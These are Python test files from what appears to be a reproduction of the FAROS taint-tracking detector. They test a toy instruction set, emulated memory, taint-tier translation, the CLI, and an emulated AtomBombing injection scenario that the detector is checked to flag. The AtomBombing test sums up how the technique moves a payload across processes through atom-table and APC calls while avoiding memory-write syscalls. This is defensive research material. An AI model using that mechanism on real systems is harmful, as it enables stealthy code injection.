        assert len(prog.code) == 5 * INSTRUCTION_SIZE
        assert decode(prog.code, 3 * INSTRUCTION_SIZE).op is Op.JNZ
