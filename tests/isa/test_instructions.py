"""Unit and property tests for instruction encode/decode."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.isa.errors import DecodeError
from repro.isa.instructions import (
    INSTRUCTION_SIZE,
    Instruction,
    Op,
    decode,
    encode,
    format_instruction,
    signed32,
)
from repro.isa.registers import NUM_REGS, Reg

regs = st.sampled_from(list(Reg))
imms = st.integers(min_value=0, max_value=0xFFFFFFFF)
ops = st.sampled_from(list(Op))


@given(op=ops, rd=regs, rs1=regs, rs2=regs, imm=imms)
def test_encode_decode_roundtrip(op, rd, rs1, rs2, imm):
    insn = Instruction(op, rd, rs1, rs2, imm)
    assert decode(encode(insn)) == insn


def test_encoding_is_fixed_width():
    assert len(encode(Instruction(Op.NOP))) == INSTRUCTION_SIZE
    assert len(encode(Instruction(Op.LD, Reg.R1, Reg.R2, imm=0xFFFFFFFF))) == 8


def test_encoding_layout():
    raw = encode(Instruction(Op.LD, Reg.R3, Reg.SP, Reg.R0, 0x11223344))
    assert raw[0] == Op.LD
    assert raw[1] == Reg.R3
    assert raw[2] == Reg.SP
    assert raw[3] == Reg.R0
    assert raw[4:8] == b"\x44\x33\x22\x11"


def test_undefined_opcode_rejected():
    raw = bytes([0xEE, 0, 0, 0, 0, 0, 0, 0])
    with pytest.raises(DecodeError):
        decode(raw)


def test_register_index_out_of_range_rejected():
    raw = bytes([Op.MOV, NUM_REGS, 0, 0, 0, 0, 0, 0])
    with pytest.raises(DecodeError):
        decode(raw)


def test_truncated_buffer_rejected():
    with pytest.raises(DecodeError):
        decode(b"\x00" * 7)


def test_decode_at_offset():
    buf = encode(Instruction(Op.NOP)) + encode(Instruction(Op.HLT))
    assert decode(buf, offset=8).op is Op.HLT


def test_negative_immediate_wraps_to_unsigned():
    insn = Instruction(Op.ADDI, Reg.R1, Reg.R1, imm=-4)
    decoded = decode(encode(insn))
    assert decoded.imm == 0xFFFFFFFC
    assert signed32(decoded.imm) == -4


@pytest.mark.parametrize(
    "value,expected",
    [(0, 0), (1, 1), (0x7FFFFFFF, 0x7FFFFFFF), (0x80000000, -0x80000000), (0xFFFFFFFF, -1)],
)
def test_signed32(value, expected):
    assert signed32(value) == expected


@given(op=ops, rd=regs, rs1=regs, rs2=regs, imm=imms)
def test_format_never_crashes(op, rd, rs1, rs2, imm):
    text = format_instruction(Instruction(op, rd, rs1, rs2, imm))
    assert isinstance(text, str) and text


@pytest.mark.parametrize(
    "insn,expected",
    [
        (Instruction(Op.MOVI, Reg.R1, imm=16), "movi r1, 0x10"),
        (Instruction(Op.LD, Reg.R2, Reg.SP, imm=4), "ld r2, [sp+0x4]"),
        (Instruction(Op.ST, rs1=Reg.R1, rs2=Reg.R2, imm=0), "st [r1+0x0], r2"),
        (Instruction(Op.ADD, Reg.R1, Reg.R2, Reg.R3), "add r1, r2, r3"),
        (Instruction(Op.SYSCALL), "syscall"),
        (Instruction(Op.CALLR, rs1=Reg.R5), "callr r5"),
    ],
)
def test_format_examples(insn, expected):
    assert format_instruction(insn) == expected
