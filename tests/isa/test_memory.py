"""Unit tests for physical memory and the frame allocator."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from repro.isa.errors import PhysicalMemoryError
from repro.isa.memory import PAGE_SIZE, FrameAllocator, PhysicalMemory


class TestPhysicalMemory:
    def test_initial_memory_is_zeroed(self):
        mem = PhysicalMemory(4 * PAGE_SIZE)
        assert mem.read_bytes(0, mem.size) == b"\x00" * mem.size

    def test_byte_roundtrip(self):
        mem = PhysicalMemory(PAGE_SIZE)
        mem.write_byte(10, 0xAB)
        assert mem.read_byte(10) == 0xAB

    def test_byte_write_truncates_to_8_bits(self):
        mem = PhysicalMemory(PAGE_SIZE)
        mem.write_byte(0, 0x1FF)
        assert mem.read_byte(0) == 0xFF

    def test_word_is_little_endian(self):
        mem = PhysicalMemory(PAGE_SIZE)
        mem.write_word(0, 0x11223344)
        assert mem.read_bytes(0, 4) == b"\x44\x33\x22\x11"
        assert mem.read_word(0) == 0x11223344

    def test_word_write_truncates_to_32_bits(self):
        mem = PhysicalMemory(PAGE_SIZE)
        mem.write_word(4, 0x1_0000_0001)
        assert mem.read_word(4) == 1

    def test_bulk_roundtrip(self):
        mem = PhysicalMemory(PAGE_SIZE)
        mem.write_bytes(100, b"hello world")
        assert mem.read_bytes(100, 11) == b"hello world"

    def test_fill(self):
        mem = PhysicalMemory(PAGE_SIZE)
        mem.fill(8, 4, 0x7F)
        assert mem.read_bytes(6, 8) == b"\x00\x00\x7f\x7f\x7f\x7f\x00\x00"

    @pytest.mark.parametrize("paddr", [-1, PAGE_SIZE, PAGE_SIZE - 3])
    def test_out_of_range_word_raises(self, paddr):
        mem = PhysicalMemory(PAGE_SIZE)
        with pytest.raises(PhysicalMemoryError):
            mem.read_word(paddr)

    def test_out_of_range_bulk_raises(self):
        mem = PhysicalMemory(PAGE_SIZE)
        with pytest.raises(PhysicalMemoryError):
            mem.write_bytes(PAGE_SIZE - 2, b"abc")

    @pytest.mark.parametrize("size", [0, -256, 100])
    def test_bad_sizes_rejected(self, size):
        with pytest.raises(ValueError):
            PhysicalMemory(size)

    @given(
        paddr=st.integers(min_value=0, max_value=PAGE_SIZE - 4),
        value=st.integers(min_value=0, max_value=0xFFFFFFFF),
    )
    def test_word_roundtrip_property(self, paddr, value):
        mem = PhysicalMemory(PAGE_SIZE)
        mem.write_word(paddr, value)
        assert mem.read_word(paddr) == value

    @given(data=st.binary(min_size=0, max_size=64), paddr=st.integers(0, PAGE_SIZE - 64))
    def test_bulk_roundtrip_property(self, data, paddr):
        mem = PhysicalMemory(PAGE_SIZE)
        mem.write_bytes(paddr, data)
        assert mem.read_bytes(paddr, len(data)) == data


class TestFrameAllocator:
    def test_alloc_yields_distinct_frames_lowest_first(self):
        mem = PhysicalMemory(8 * PAGE_SIZE)
        alloc = FrameAllocator(mem)
        frames = alloc.alloc_many(8)
        assert frames == list(range(8))

    def test_reserved_low_frames_never_allocated(self):
        mem = PhysicalMemory(8 * PAGE_SIZE)
        alloc = FrameAllocator(mem, reserved_low=2 * PAGE_SIZE)
        assert alloc.total_frames == 6
        assert min(alloc.alloc_many(6)) == 2

    def test_exhaustion_raises(self):
        mem = PhysicalMemory(2 * PAGE_SIZE)
        alloc = FrameAllocator(mem)
        alloc.alloc_many(2)
        with pytest.raises(MemoryError):
            alloc.alloc()

    def test_freed_frame_is_reused_and_zeroed(self):
        mem = PhysicalMemory(2 * PAGE_SIZE)
        alloc = FrameAllocator(mem)
        frame = alloc.alloc()
        mem.write_bytes(frame * PAGE_SIZE, b"\xff" * PAGE_SIZE)
        alloc.free(frame)
        again = alloc.alloc_many(2)
        assert frame in again
        assert mem.read_bytes(frame * PAGE_SIZE, PAGE_SIZE) == b"\x00" * PAGE_SIZE

    def test_double_free_detected(self):
        mem = PhysicalMemory(2 * PAGE_SIZE)
        alloc = FrameAllocator(mem)
        frame = alloc.alloc()
        alloc.free(frame)
        with pytest.raises(ValueError):
            alloc.free(frame)

    def test_unaligned_reservation_rejected(self):
        mem = PhysicalMemory(2 * PAGE_SIZE)
        with pytest.raises(ValueError):
            FrameAllocator(mem, reserved_low=100)
