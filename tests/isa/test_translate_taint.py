"""Unit tests for the translated-tainted tier (repro.isa.translate).

``test_translate.py`` pins the uninstrumented cache; this file pins the
taint tier's local contracts on whole machines carrying a lone
:class:`~repro.taint.tracker.TaintTracker` (the configuration whose
``insn_effects_plan`` reduces to the fused per-block closures):

* armed-but-clean code keeps executing translated blocks (the per-block
  fetch-shadow-page probe), with the pure-clean shortcut retiring
  everything fast;
* cleanliness is byte-precise: blocks on shadow pages that are dirty
  but whose *instruction bytes* are clean stay fused (taint planted
  next to code -- the attack-shaped layout -- no longer evicts it),
  and only a store that taints the fetch range itself exits the block
  precisely (via the code-version bump, since tainting fetched bytes
  means writing them);
* every fused operand shape (moves, ALU, compares, loads/stores, stack
  traffic, calls) leaves bit-identical tracker state vs the
  instrumented interpreter;
* watchdogs, scheduled fault events, and taint budgets fire at the
  identical tick inside tainted blocks.

The cross-tracker randomized matrix lives in
``tests/taint/test_differential.py``; full attack-level runs in
``tests/isa/test_translate_diff.py``.
"""

import dataclasses

import pytest

from repro.emulator.machine import Machine, MachineConfig
from repro.faults.plan import InjectedMachineFault
from repro.isa.cpu import AccessKind
from repro.taint.intern import ProvInterner
from repro.taint.policy import TaintPolicy
from repro.taint.tags import Tag, TagType
from repro.taint.tracker import TaintTracker

from tests.conftest import register_asm

SEED = Tag(TagType.NETFLOW, 9)

PARK = """
park:
    movi r1, 10000000
    movi r0, SYS_SLEEP
    syscall
    hlt
"""

#: Tainted copy loop with the data pushed onto its own 4 KiB shadow
#: page, so the code's fetch pages stay clean and the taint tier can
#: keep executing translated blocks while provenance moves.
TAINTED_LOOP = """
start:
    movi r5, 40
loop:
    movi r6, src
    ld r1, [r6]
    movi r6, dst
    st [r6], r1
    addi r2, r1, 1
    subi r5, r5, 1
    cmpi r5, 0
    jnz loop
    jmp park
pad: .space 8192
src: .word 0xfeedface
dst: .word 0
parkpad: .space 8192
"""


def run_one(body, seeds=(), policy=None, translate=True, budget=300_000, **config_kw):
    """One machine, one fast tracker, optional taint seeding by label.

    Each seed is ``(label, n)`` (seeded with the NETFLOW :data:`SEED`)
    or ``(label, n, tag)`` for attack-shaped plants (export tags etc.).
    """
    machine = Machine(MachineConfig(translate=translate, **config_kw))
    tracker = TaintTracker(
        policy=policy or TaintPolicy(), interner=ProvInterner()
    )
    machine.plugins.register(tracker)
    prog = register_asm(machine, "t.exe", body, PARK)
    proc = machine.kernel.spawn("t.exe")
    for label, n, *rest in seeds:
        paddrs = proc.aspace.translate_range(prog.label(label), n, AccessKind.READ)
        tracker.pipeline.taint(paddrs, rest[0] if rest else SEED)
    stats = machine.run(budget)
    return machine, tracker, stats


def assert_pair_identical(on, off):
    """Bit-identity between a translate-on and a translate-off run."""
    machine_on, tracker_on, stats_on = on
    machine_off, tracker_off, stats_off = off
    assert machine_on.now == machine_off.now
    assert stats_on.stop_reason == stats_off.stop_reason
    assert tracker_on.shadow.snapshot() == tracker_off.shadow.snapshot()
    assert tracker_on.shadow.tainted_bytes == tracker_off.shadow.tainted_bytes
    assert tracker_on.banks.snapshot() == tracker_off.banks.snapshot()
    assert tracker_on.stats.instructions == tracker_off.stats.instructions
    assert tracker_on.stats.fast_retirements == tracker_off.stats.fast_retirements
    assert tracker_on.stats.slow_retirements == tracker_off.stats.slow_retirements
    assert (tracker_on.interner.hits, tracker_on.interner.misses) == (
        tracker_off.interner.hits,
        tracker_off.interner.misses,
    )


def run_pair(body, seeds=(), policy=None, budget=300_000, **config_kw):
    on = run_one(body, seeds, policy, True, budget, **config_kw)
    off = run_one(body, seeds, policy, False, budget, **config_kw)
    assert_pair_identical(on, off)
    return on, off


def taint_stats(machine):
    return {
        k: v for k, v in machine.translator.stats().items() if k.startswith("taint")
    }


#: Same copy loop, plus a seedable word the program never touches, on
#: its own shadow page: seeding it arms the tracker without dirtying
#: anything the program reads or fetches.
ARMED_CLEAN = TAINTED_LOOP + """
far: .word 0
farpad2: .space 8192
"""


class TestArmedButCleanStaysTranslated:
    def test_dormant_tracker_runs_uninstrumented(self):
        """No taint anywhere: the tracker does not even want effects,
        so slices run the plain translated tier, not the taint tier."""
        machine, tracker, _ = run_one(TAINTED_LOOP)
        ts = taint_stats(machine)
        assert ts["taint_lookups"] == 0
        assert machine.translator.executions > 0
        assert tracker.stats.slow_retirements == 0

    def test_armed_but_clean_thread_retires_fast(self):
        """Taint exists (tracker armed) but this thread never touches
        it: every retirement stays on the fast counter, pure blocks via
        the pure-clean shortcut and impure ones via per-closure gates."""
        machine, tracker, _ = run_one(ARMED_CLEAN, seeds=[("far", 4)])
        ts = taint_stats(machine)
        assert ts["taint_executions"] > 0
        assert ts["taint_single_steps"] == 0
        assert ts["taint_dirty_exits"] == 0
        assert tracker.stats.slow_retirements == 0
        assert tracker.stats.instructions == tracker.stats.fast_retirements > 0
        assert tracker.shadow.tainted_bytes == 4  # just the far seed

    def test_tainted_data_on_clean_fetch_pages_stays_translated(self):
        """Taint moving through data pages never evicts the code from
        the translated tier -- only the per-instruction gate pays."""
        machine, tracker, _ = run_one(TAINTED_LOOP, seeds=[("src", 4)])
        ts = taint_stats(machine)
        assert ts["taint_executions"] > 0
        assert ts["taint_single_steps"] == 0
        assert ts["taint_dirty_exits"] == 0
        assert tracker.shadow.tainted_bytes > 4  # src + dst carry taint
        assert tracker.stats.slow_retirements > 0  # the copies went slow-path

    def test_tainted_run_matches_interpreter(self):
        (machine, tracker, _), _ = run_pair(TAINTED_LOOP, seeds=[("src", 4)])
        assert taint_stats(machine)["taint_executions"] > 0


#: The store lands one guest page past the code (no code-page version
#: bump, so not SMC) but inside the code's 4 KiB shadow page.  Under the
#: byte-precise cleanliness rule this is the PR 6 headroom case: the
#: shadow page goes dirty, yet the block's *fetch bytes* stay clean, so
#: every later loop iteration re-probes the range and keeps running
#: fused instead of falling to the interpreter window.
DIRTY_OWN_PAGE = """
start:
    movi r5, 8
loop:
    movi r6, src
    ld r1, [r6]
    movi r6, near
    st [r6], r1
    subi r5, r5, 1
    cmpi r5, 0
    jnz loop
    jmp park
near_pad: .space 256
near: .word 0
pad: .space 8192
src: .word 0x1111
"""

#: Attack-shaped layout: export-table tags planted on the code's own
#: 4 KiB shadow page (what a scraped PE header next to injected code
#: looks like).  The program never touches the plant; its fetch bytes
#: are clean, so it must stay in fused execution.
EXPORT_NEIGHBOR = """
start:
    movi r5, 8
loop:
    movi r6, src
    ld r1, [r6]
    movi r6, dst
    st [r6], r1
    subi r5, r5, 1
    cmpi r5, 0
    jnz loop
    jmp park
planted: .space 16
pad: .space 8192
src: .word 0xfeedface
dst: .word 0
"""

EXPORT_TAG = Tag(TagType.EXPORT_TABLE, 3)

#: A store that taints the block's *own fetch range*: patch the low imm
#: byte of ``movi r5, 1`` with a tainted value.  Writing fetched bytes
#: necessarily bumps the watched code-page version, so the SMC exit
#: claims the block precisely at the store, and the retranslated tail
#: -- now injected, tainted code -- runs in the detection window.
PATCH_FETCH = """
start:
    movi r6, src
    ld r1, [r6]
    movi r4, patchme
    stb [r4+4], r1
patchme:
    movi r5, 1
    jmp park
pad: .space 8192
src: .word 9
"""


class TestByteGranularCleanliness:
    def test_store_beside_fetch_range_stays_fused(self):
        (machine, tracker, _), _ = run_pair(DIRTY_OWN_PAGE, seeds=[("src", 4)])
        ts = taint_stats(machine)
        assert ts["taint_dirty_exits"] == 0
        assert ts["taint_single_steps"] == 0
        # Later iterations re-enter the block with its shadow page in
        # the dirty set; the byte-precise probe keeps them fused.
        assert ts["taint_dirty_page_runs"] > 0
        assert tracker.shadow.tainted_bytes > 4  # src + near carry taint

    def test_planted_export_tags_beside_code_stay_fused(self):
        (machine, tracker, _), _ = run_pair(
            EXPORT_NEIGHBOR, seeds=[("src", 4), ("planted", 16, EXPORT_TAG)]
        )
        ts = taint_stats(machine)
        assert ts["taint_single_steps"] == 0
        assert ts["taint_dirty_exits"] == 0
        assert ts["taint_dirty_page_runs"] > 0
        # The plant itself is untouched provenance, not collateral.
        assert tracker.shadow.tainted_bytes >= 16 + 4

    def test_tainted_fetch_bytes_run_in_the_window(self):
        # Precision cuts the other way too: taint the first instruction
        # itself and that instruction (alone) goes through the window.
        (machine, _, _), _ = run_pair(TAINTED_LOOP, seeds=[("start", 4)])
        assert taint_stats(machine)["taint_single_steps"] > 0

    def test_store_into_fetch_range_exits_precisely(self):
        from repro.isa.registers import Reg

        (machine, tracker, _), (machine_off, _, _) = run_pair(
            PATCH_FETCH, seeds=[("src", 4)]
        )
        ts = taint_stats(machine)
        # Tainting fetched bytes means writing them, so the code-version
        # bump (SMC) claims the exit; the dirty-exit counter stays idle.
        assert ts["taint_dirty_exits"] == 0
        assert machine.translator.invalidations >= 1
        # The patched, now-tainted instruction ran in the window...
        assert ts["taint_single_steps"] > 0
        # ...and executed the NEW bytes on both tiers.
        assert machine.cpu.regs.read(Reg.R5) == 9
        assert machine_off.cpu.regs.read(Reg.R5) == 9

    def test_clean_store_does_not_exit(self):
        (machine, _, _), _ = run_pair(TAINTED_LOOP, seeds=[("src", 4)])
        assert taint_stats(machine)["taint_dirty_exits"] == 0


SHAPE_PROGRAMS = {
    "mov_alu": """
start:
    movi r6, src
    ld r1, [r6]
    mov r2, r1
    add r3, r1, r2
    xor r4, r1, r1
    sub r5, r2, r2
    xori r3, r3, 0x55
    addi r2, r2, 7
    movi r6, dst
    st [r6], r2
    st [r6+4], r3
    st [r6+8], r4
    jmp park
pad: .space 8192
src: .word 0xabcd
dst: .space 16
""",
    "flags_branch": """
start:
    movi r6, src
    ld r1, [r6]
    cmpi r1, 0
    jz skip
    movi r2, 1
skip:
    cmp r1, r2
    jnz other
    movi r3, 2
other:
    movi r6, dst
    st [r6], r2
    st [r6+4], r3
    jmp park
pad: .space 8192
src: .word 5
dst: .space 8
""",
    "bytes_and_stack": """
start:
    movi r6, src
    ldb r1, [r6+1]
    push r1
    pop r2
    movi r6, dst
    stb [r6+2], r2
    push r2
    pop r3
    jmp park
pad: .space 8192
src: .word 0xa1b2c3d4
dst: .space 8
""",
    "call_link": """
start:
    movi r6, src
    ld r1, [r6]
    call helper
    movi r6, dst
    st [r6], r2
    jmp park
helper:
    addi r2, r1, 1
    ret
pad: .space 8192
src: .word 0x77
dst: .space 4
""",
}


class TestFusedOperandShapes:
    @pytest.mark.parametrize("name", sorted(SHAPE_PROGRAMS))
    @pytest.mark.parametrize("addr_deps", [False, True])
    @pytest.mark.parametrize("control_deps", [False, True])
    def test_shape_matches_interpreter(self, name, addr_deps, control_deps):
        policy = TaintPolicy(
            track_address_deps=addr_deps, track_control_deps=control_deps
        )
        (machine, tracker, _), _ = run_pair(
            SHAPE_PROGRAMS[name], seeds=[("src", 4)], policy=policy
        )
        assert taint_stats(machine)["taint_executions"] > 0
        assert tracker.shadow.tainted_bytes > 0

    def test_process_tags_minted_in_identical_order(self):
        policy = TaintPolicy(process_tags_on_access=True)
        (_, tracker_on, _), (_, tracker_off, _) = run_pair(
            TAINTED_LOOP, seeds=[("src", 4)], policy=policy
        )
        assert tracker_on.stats.process_tag_appends > 0
        assert (
            tracker_on.stats.process_tag_appends
            == tracker_off.stats.process_tag_appends
        )
        assert tracker_on.tags.sizes() == tracker_off.tags.sizes()


class TestTickExactnessInsideTaintedBlocks:
    def test_watchdog_trips_at_identical_tick(self):
        on, off = {}, {}
        for translate, out in ((True, on), (False, off)):
            machine, tracker, stats = run_one(
                TAINTED_LOOP,
                seeds=[("src", 4)],
                translate=translate,
                instruction_budget=150,
            )
            out.update(machine=machine, tracker=tracker, stats=stats)
        assert on["stats"].stop_reason == "fault" == off["stats"].stop_reason
        assert on["stats"].fault.kind == "WatchdogExpired"
        assert (
            on["stats"].fault.to_json_dict() == off["stats"].fault.to_json_dict()
        )
        assert on["machine"].now == off["machine"].now
        assert on["tracker"].shadow.snapshot() == off["tracker"].shadow.snapshot()

    def test_scheduled_fault_event_fires_at_identical_tick(self):
        results = {}
        for translate in (True, False):
            machine = Machine(MachineConfig(translate=translate))
            tracker = TaintTracker(policy=TaintPolicy(), interner=ProvInterner())
            machine.plugins.register(tracker)
            prog = register_asm(machine, "t.exe", TAINTED_LOOP, PARK)
            proc = machine.kernel.spawn("t.exe")
            paddrs = proc.aspace.translate_range(
                prog.label("src"), 4, AccessKind.READ
            )
            tracker.pipeline.taint(paddrs, SEED)
            machine.schedule(
                97, InjectedMachineFault("DeviceFault", "mid-block probe")
            )
            stats = machine.run(300_000)
            results[translate] = (machine, tracker, stats)
        machine_on, tracker_on, stats_on = results[True]
        machine_off, tracker_off, stats_off = results[False]
        assert stats_on.stop_reason == "fault" == stats_off.stop_reason
        assert stats_on.fault.to_json_dict() == stats_off.fault.to_json_dict()
        assert machine_on.now == machine_off.now
        assert tracker_on.shadow.snapshot() == tracker_off.shadow.snapshot()
        assert tracker_on.stats.instructions == tracker_off.stats.instructions

    def test_taint_budget_trips_at_identical_tick(self):
        policy = TaintPolicy(max_tainted_bytes=6)
        on = run_one(TAINTED_LOOP, seeds=[("src", 4)], policy=policy)
        off = run_one(
            TAINTED_LOOP, seeds=[("src", 4)], policy=policy, translate=False
        )
        assert on[2].stop_reason == "fault" == off[2].stop_reason
        assert on[2].fault.kind == "TaintBudgetExceeded"
        assert on[2].fault.to_json_dict() == off[2].fault.to_json_dict()
        assert on[0].now == off[0].now
        assert on[1].stats.instructions == off[1].stats.instructions


#: Pointer-chase loop: the second load's address comes out of the first
#: load, so the block's data footprint cannot be predicted from entry
#: registers -- the write-set summary must refuse to cache it and leave
#: the per-closure probes in charge.
POINTER_CHASE = """
start:
    movi r5, 8
    movi r6, ptr
    movi r7, cell
    st [r6], r7
loop:
    ld r7, [r6]
    ld r1, [r7]
    subi r5, r5, 1
    cmpi r5, 0
    jnz loop
    jmp park
farpad: .space 8192
ptr: .word 0
cell: .word 7
farpad2: .space 8192
far: .word 0
farpad3: .space 8192
"""


class TestDataFootprintCache:
    """The PR 7 headroom satellite: per-block write-set summaries.

    When the bank is clean and the shadow is dirty *somewhere else*,
    the dispatcher predicts each block's data footprint once (cached by
    influence-register signature and MMU mapping epoch) and, on a miss
    against the dirty-page index, delegates the whole block to the
    plain closures instead of paying a per-access probe in every fused
    closure.
    """

    def test_armed_but_clean_loop_delegates_whole_blocks(self):
        machine, tracker, _ = run_one(ARMED_CLEAN, seeds=[("far", 4)])
        ts = taint_stats(machine)
        assert ts["taint_footprint_checks"] > 0
        assert ts["taint_footprint_delegations"] > 0
        # The loop's addresses all come from MOVI-fed registers: the
        # influence signature is empty, so after the first evaluation
        # every later iteration is a pure cache hit.
        assert ts["taint_footprint_cache_hits"] > 0
        assert tracker.stats.slow_retirements == 0
        assert tracker.stats.instructions == tracker.stats.fast_retirements > 0

    def test_delegated_run_matches_interpreter(self):
        (machine, tracker, _), _ = run_pair(ARMED_CLEAN, seeds=[("far", 4)])
        assert taint_stats(machine)["taint_footprint_delegations"] > 0
        assert tracker.shadow.tainted_bytes == 4

    def test_loaded_address_makes_block_uncacheable(self):
        machine, tracker, _ = run_one(POINTER_CHASE, seeds=[("far", 4)])
        ts = taint_stats(machine)
        assert ts["taint_footprint_checks"] > 0
        # The chase loop's block is refused; only the straight-line
        # prologue/terminator blocks (if any) may delegate, and the
        # uncacheable block keeps retiring through per-closure gates.
        blocks = machine.translator.blocks()
        analyzed = [b for b in blocks if b.data_analyzed]
        assert analyzed, "the gate must have analyzed at least one block"
        assert any(not b.data_cacheable for b in analyzed)
        assert tracker.stats.slow_retirements == 0  # everything still clean

    def test_uncacheable_run_matches_interpreter(self):
        run_pair(POINTER_CHASE, seeds=[("far", 4)])

    def test_tainted_bank_never_consults_the_footprint(self):
        """Once provenance reaches a register the summary is irrelevant:
        propagation needs the per-closure slow arms."""
        machine, tracker, _ = run_one(TAINTED_LOOP, seeds=[("src", 4)])
        ts = taint_stats(machine)
        assert ts["taint_footprint_delegations"] == 0
        assert tracker.stats.slow_retirements > 0
