"""Tests for the command-line interface."""

import pytest

from repro.cli import build_parser, main


class TestParser:
    def test_requires_command(self, capsys):
        with pytest.raises(SystemExit):
            build_parser().parse_args([])

    def test_unknown_command_rejected(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args(["frobnicate"])

    @pytest.mark.parametrize(
        "argv",
        [["detect"], ["table4", "--full"], ["table5", "--repeat", "2"], ["all"]],
    )
    def test_valid_commands_parse(self, argv):
        args = build_parser().parse_args(argv)
        assert args.command == argv[0]


class TestCommands:
    def test_detect(self, capsys):
        assert main(["detect"]) == 0
        out = capsys.readouterr().out
        assert "TOTAL: 6/6 flagged" in out

    def test_table2(self, capsys):
        assert main(["table2"]) == 0
        assert "NetFlow:" in capsys.readouterr().out

    def test_table4_quick(self, capsys):
        assert main(["table4"]) == 0
        out = capsys.readouterr().out
        assert "false positives: 0" in out
        assert "one variant per family" in out

    def test_indirect(self, capsys):
        assert main(["indirect"]) == 0
        assert "fig2-control-dep" in capsys.readouterr().out

    def test_table5_single_repeat(self, capsys):
        assert main(["table5", "--repeat", "1"]) == 0
        assert "average slowdown" in capsys.readouterr().out

    def test_timeline(self, capsys):
        assert main(["timeline", "reflective"]) == 0
        out = capsys.readouterr().out
        assert "FAROS timeline" in out and "FLAG" in out

    def test_timeline_requires_known_attack(self):
        with pytest.raises(SystemExit):
            main(["timeline", "bogus"])
