"""Tests for the command-line interface."""

import json

import pytest

from repro.cli import build_parser, main


class TestParser:
    def test_requires_command(self, capsys):
        with pytest.raises(SystemExit):
            build_parser().parse_args([])

    def test_unknown_command_rejected(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args(["frobnicate"])

    @pytest.mark.parametrize(
        "argv",
        [["detect"], ["table4", "--full"], ["table5", "--repeat", "2"], ["all"]],
    )
    def test_valid_commands_parse(self, argv):
        args = build_parser().parse_args(argv)
        assert args.command == argv[0]


class TestCommands:
    def test_detect(self, capsys):
        assert main(["detect"]) == 0
        out = capsys.readouterr().out
        assert "TOTAL: 6/6 flagged" in out

    def test_table2(self, capsys):
        assert main(["table2"]) == 0
        assert "NetFlow:" in capsys.readouterr().out

    def test_table4_quick(self, capsys):
        assert main(["table4"]) == 0
        out = capsys.readouterr().out
        assert "false positives: 0" in out
        assert "one variant per family" in out

    def test_indirect(self, capsys):
        assert main(["indirect"]) == 0
        assert "fig2-control-dep" in capsys.readouterr().out

    def test_table5_single_repeat(self, capsys):
        assert main(["table5", "--repeat", "1"]) == 0
        assert "average slowdown" in capsys.readouterr().out

    def test_timeline(self, capsys):
        assert main(["timeline", "reflective"]) == 0
        out = capsys.readouterr().out
        assert "FAROS timeline" in out and "FLAG" in out

    def test_timeline_requires_known_attack(self):
        with pytest.raises(SystemExit):
            main(["timeline", "bogus"])


@pytest.fixture
def no_pool(monkeypatch):
    """Make spawning a worker pool an error (asserts the serial path)."""
    import repro.analysis.triage as triage

    def _boom(*args, **kwargs):
        raise AssertionError("a worker pool was spawned")

    monkeypatch.setattr(triage, "_run_pool", _boom)


class TestTriageFlags:
    @pytest.mark.parametrize("command", ["detect", "table3", "table4", "compare", "all"])
    def test_flags_parse(self, command):
        args = build_parser().parse_args(
            [command, "--jobs", "4", "--timeout", "30", "--json", "out.json"]
        )
        assert args.jobs == 4
        assert args.timeout == 30.0
        assert args.json == "out.json"

    def test_flag_defaults(self):
        args = build_parser().parse_args(["detect"])
        assert args.jobs == 1 and args.timeout is None and args.json is None

    def test_table2_has_no_triage_flags(self):
        with pytest.raises(SystemExit):
            build_parser().parse_args(["table2", "--jobs", "2"])

    def test_jobs_1_stays_in_process(self, capsys, no_pool):
        # With the pool forbidden, --jobs 1 must still work end to end.
        assert main(["detect", "--jobs", "1"]) == 0
        assert "TOTAL: 6/6 flagged" in capsys.readouterr().out

    def test_jobs_2_spawns_the_pool(self, no_pool):
        with pytest.raises(AssertionError, match="worker pool was spawned"):
            main(["detect", "--jobs", "2"])

    def test_json_to_file_is_parseable(self, capsys, tmp_path):
        out = tmp_path / "table4.json"
        assert main(["table4", "--jobs", "2", "--json", str(out)]) == 0
        assert "false positives: 0" in capsys.readouterr().out
        payload = json.loads(out.read_text())
        assert payload["command"] == "table4"
        assert payload["jobs"] == 2
        assert len(payload["results"]) == 21
        assert all(r["status"] == "OK" for r in payload["results"])
        assert all(r["verdict"] is False for r in payload["results"])

    def test_json_dash_writes_stdout(self, capsys):
        assert main(["detect", "--jobs", "1", "--json", "-"]) == 0
        out = capsys.readouterr().out
        table, _, blob = out.partition("{")
        assert "TOTAL: 6/6 flagged" in table
        payload = json.loads("{" + blob)
        assert payload["command"] == "detect"
        assert [r["verdict"] for r in payload["results"]] == [True] * 6
