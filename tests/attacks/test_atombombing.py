"""AtomBombing: signature-less cross-process injection vs FAROS."""

import pytest

from repro.attacks import build_atombombing_scenario
from repro.baselines import CuckooSandbox
from repro.faros import Faros
from repro.guestos.syscalls import Sys


@pytest.fixture(scope="module")
def result():
    attack = build_atombombing_scenario()
    faros = Faros()
    machine = attack.scenario.run(plugins=[faros])
    return faros, machine


@pytest.fixture(scope="module")
def cuckoo_report():
    return CuckooSandbox().analyze(build_atombombing_scenario().scenario)


class TestAttackMechanics:
    def test_stage_executed_in_victim(self, result):
        _, machine = result
        explorer = next(
            p for p in machine.kernel.processes.values() if p.name == "explorer.exe"
        )
        assert any("meterpreter stage alive" in line for line in explorer.console)

    def test_no_write_virtual_memory_syscall_ever_issued(self, cuckoo_report):
        """The defining property: the payload crossed processes without
        a single NtWriteVirtualMemory."""
        numbers = {e.number for e in cuckoo_report.api_calls}
        assert Sys.WRITE_VM not in numbers
        assert Sys.ADD_ATOM in numbers and Sys.QUEUE_APC in numbers

    def test_victim_itself_pulled_the_atom(self, cuckoo_report):
        get_atoms = [e for e in cuckoo_report.api_calls if e.number == Sys.GET_ATOM]
        assert get_atoms and all(e.process == "explorer.exe" for e in get_atoms)

    def test_apc_thread_exits_without_killing_victim(self, result):
        _, machine = result
        explorer = next(
            p for p in machine.kernel.processes.values() if p.name == "explorer.exe"
        )
        assert explorer.alive  # the fetch-APC ended via ExitThread cleanly
        from repro.guestos.process import ThreadState

        dead = [t for t in explorer.threads if t.state is ThreadState.DEAD]
        assert dead, "the GlobalGetAtomNameA APC thread should have exited"


class TestDetection:
    def test_faros_flags_it(self, result):
        faros, _ = result
        assert faros.attack_detected

    def test_chain_is_the_full_story(self, result):
        faros, _ = result
        chain = faros.report().chains()[0]
        assert chain.netflow is not None
        assert chain.process_chain == ["atombomber.exe", "explorer.exe"]
